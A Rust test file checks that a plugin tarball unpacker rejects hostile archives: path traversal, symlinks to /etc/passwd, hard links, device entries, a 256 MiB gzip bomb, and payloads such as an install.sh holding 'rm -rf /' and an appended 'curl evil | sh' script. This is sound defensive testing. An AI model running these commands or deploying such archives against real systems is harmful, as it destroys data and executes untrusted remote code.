//! Hostile tarballs: each is rejected with an error that names the cause, nothing is written to
//! disk, and a gzip bomb is abandoned at the decompression cap.

use std::io::{Read, Write};

use helios_plugin_artefact::{ErrorKind, UnpackLimits, unpack};
use helios_plugin_schema::manifest::MAX_MANIFEST_BYTES;

use crate::support::*;

/// One raw tar entry, written without the safety checks of `tar::Builder`.
struct Raw<'a> {
    name: &'a [u8],
    kind: u8,
    data: &'a [u8],
    link: &'a [u8],
    /// Size written in the header (defaults to the data length).
    size: Option<u64>,
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> Raw<'a> {
    Raw { name: name.as_bytes(), kind: b'0', data, link: b"", size: None }
}

fn tar_of(entries: &[Raw<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    for e in entries {
        let mut h = tar::Header::new_ustar();
        {
            let bytes = h.as_mut_bytes();
            bytes[..e.name.len()].copy_from_slice(e.name);
            bytes[157..157 + e.link.len()].copy_from_slice(e.link);
        }
        h.set_mode(0o644);
        h.set_size(e.size.unwrap_or(e.data.len() as u64));
        h.set_entry_type(tar::EntryType::new(e.kind));
        h.set_cksum();
        out.extend_from_slice(h.as_bytes());
        out.extend_from_slice(e.data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(bytes).unwrap();
    enc.finish().unwrap()
}

/// Unpacks and returns the error, checking its class and that it names `needle`.
fn rejected(entries: &[Raw<'_>], kind: ErrorKind, needle: &str) {
    let e = unpack(gz(&tar_of(entries)).as_slice(), "evil.tar.gz", &UnpackLimits::default()).unwrap_err();
    assert_eq!(e.kind(), kind, "{e}");
    let msg = e.to_string();
    assert!(msg.contains("evil.tar.gz") && msg.contains(needle), "expected {needle:?} in: {msg}");
}

fn good_parts() -> (Vec<u8>, Vec<u8>) {
    let a = signed_artefact(&key(1));
    (a.manifest, a.wasm)
}

#[test]
fn a_well_formed_hand_made_tarball_unpacks() {
    let (m, w) = good_parts();
    // What `tar -C dir -czf x.tar.gz .` writes: a root directory entry and ./-prefixed names.
    let dir = Raw { name: b"./", kind: b'5', data: b"", link: b"", size: None };
    let a = unpack(
        gz(&tar_of(&[dir, file("./manifest.json", &m), file("./plugin.wasm", &w)])).as_slice(),
        "ok",
        &UnpackLimits::default(),
    )
    .unwrap();
    assert_eq!((a.manifest, a.wasm), (m, w));
}

#[test]
fn path_traversal_is_rejected() {
    let (m, w) = good_parts();
    rejected(&[file("manifest.json", &m), file("../plugin.wasm", &w)], ErrorKind::ArtefactMalformed, "path traversal");
    rejected(&[file("./x/../../plugin.wasm", &w)], ErrorKind::ArtefactMalformed, "path traversal");
}

#[test]
fn absolute_paths_are_rejected() {
    let (_, w) = good_parts();
    rejected(&[file("/plugin.wasm", &w)], ErrorKind::ArtefactMalformed, "absolute path");
}

#[test]
fn symlinks_are_rejected() {
    let link = Raw { name: b"plugin.wasm", kind: b'2', data: b"", link: b"/etc/passwd", size: None };
    rejected(&[link], ErrorKind::ArtefactMalformed, "symlink");
}

#[test]
fn hard_links_are_rejected() {
    let (m, _) = good_parts();
    let link = Raw { name: b"plugin.wasm", kind: b'1', data: b"", link: b"manifest.json", size: None };
    rejected(&[file("manifest.json", &m), link], ErrorKind::ArtefactMalformed, "hard link");
}

#[test]
fn duplicate_entries_are_rejected() {
    let (m, w) = good_parts();
    rejected(
        &[file("manifest.json", &m), file("plugin.wasm", &w), file("./manifest.json", &m)],
        ErrorKind::ArtefactMalformed,
        "twice",
    );
}

#[test]
fn unknown_and_nested_entries_are_rejected() {
    let (m, w) = good_parts();
    rejected(
        &[file("manifest.json", &m), file("plugin.wasm", &w), file("install.sh", b"rm -rf /")],
        ErrorKind::ArtefactMalformed,
        "unknown entry",
    );
    rejected(&[file("lib/plugin.wasm", &w)], ErrorKind::ArtefactMalformed, "nested path");
}

#[test]
fn devices_and_fifos_are_rejected() {
    for kind in [b'3', b'4', b'6'] {
        let dev = Raw { name: b"plugin.wasm", kind, data: b"", link: b"", size: None };
        rejected(&[dev], ErrorKind::ArtefactMalformed, "not a regular file");
    }
}

#[test]
fn entries_over_their_cap_are_rejected_from_the_header() {
    // The header claims 8 GiB; no data follows. The claim alone is refused.
    let huge = Raw { name: b"plugin.wasm", kind: b'0', data: b"", link: b"", size: Some(8 << 30) };
    rejected(&[huge], ErrorKind::ModuleTooLarge, "plugin.wasm is 8589934592 bytes");
    let big_manifest = vec![b' '; MAX_MANIFEST_BYTES as usize + 1];
    rejected(&[file("manifest.json", &big_manifest)], ErrorKind::ArtefactMalformed, "manifest.json is 65537 bytes");
}

#[test]
fn too_many_entries_are_rejected() {
    let dirs: Vec<_> = (0..40).map(|_| Raw { name: b"./", kind: b'5', data: b"", link: b"", size: None }).collect();
    rejected(&dirs, ErrorKind::ArtefactMalformed, "more than 16 entries");
}

#[test]
fn missing_entries_and_garbage_are_rejected() {
    let (m, _) = good_parts();
    rejected(&[file("manifest.json", &m)], ErrorKind::ArtefactMalformed, "no plugin.wasm");
    let e = unpack(&b"PK\x03\x04 not a tarball"[..], "evil.zip", &UnpackLimits::default()).unwrap_err();
    assert_eq!(e.kind(), ErrorKind::ArtefactMalformed);
    assert!(e.to_string().contains("not a readable .tar.gz"), "{e}");
}

/// Counts bytes pulled from the compressed stream.
struct Counting<R> {
    inner: R,
    read: std::rc::Rc<std::cell::Cell<u64>>,
}

impl<R: Read> Read for Counting<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read.set(self.read.get() + n as u64);
        Ok(n)
    }
}

fn peak_rss_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb * 1024)
}

#[test]
fn a_gzip_bomb_is_abandoned_at_the_decompression_cap() {
    // A pax extended header of 256 MiB of zeros: tar would buffer it whole before the first real
    // entry. It compresses to a few hundred KiB.
    const BOMB: usize = 256 << 20;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut h = tar::Header::new_ustar();
    h.as_mut_bytes()[..11].copy_from_slice(b"PaxHeaders/");
    h.set_size(BOMB as u64);
    h.set_entry_type(tar::EntryType::XHeader);
    h.set_cksum();
    enc.write_all(h.as_bytes()).unwrap();
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..BOMB >> 20 {
        enc.write_all(&zeros).unwrap();
    }
    drop(zeros);
    let bomb = enc.finish().unwrap();

    let limits = UnpackLimits { max_module_bytes: 1 << 20 };
    let consumed = std::rc::Rc::new(std::cell::Cell::new(0));
    let before = peak_rss_bytes();
    let e = unpack(Counting { inner: bomb.as_slice(), read: consumed.clone() }, "bomb.tar.gz", &limits).unwrap_err();
    let grown = peak_rss_bytes().saturating_sub(before);
    eprintln!(
        "gzip bomb: {} compressed bytes expanding to {BOMB}; unpacker read {} compressed bytes, peak RSS grew {grown} bytes",
        bomb.len(),
        consumed.get()
    );
    assert_eq!(e.kind(), ErrorKind::ArtefactMalformed);
    assert!(e.to_string().contains(&format!("exceeds {} bytes", limits.max_decompressed_bytes())), "{e}");
    // Stopped near the cap: a small fraction of the compressed stream was ever read...
    assert!(consumed.get() * 8 < bomb.len() as u64, "read {} of {} compressed bytes", consumed.get(), bomb.len());
    // ...and the process never held anything near the 256 MiB the bomb expands to.
    assert!(grown < 64 << 20, "peak memory grew by {grown} bytes");
}

#[test]
fn data_hidden_after_the_end_of_the_archive_is_rejected() {
    let (m, w) = good_parts();
    let mut t = tar_of(&[file("manifest.json", &m), file("plugin.wasm", &w)]);
    t.extend_from_slice(b"#!/bin/sh\ncurl evil | sh\n");
    let e = unpack(gz(&t).as_slice(), "evil.tar.gz", &UnpackLimits::default()).unwrap_err();
    assert!(e.to_string().contains("data after the end"), "{e}");
}
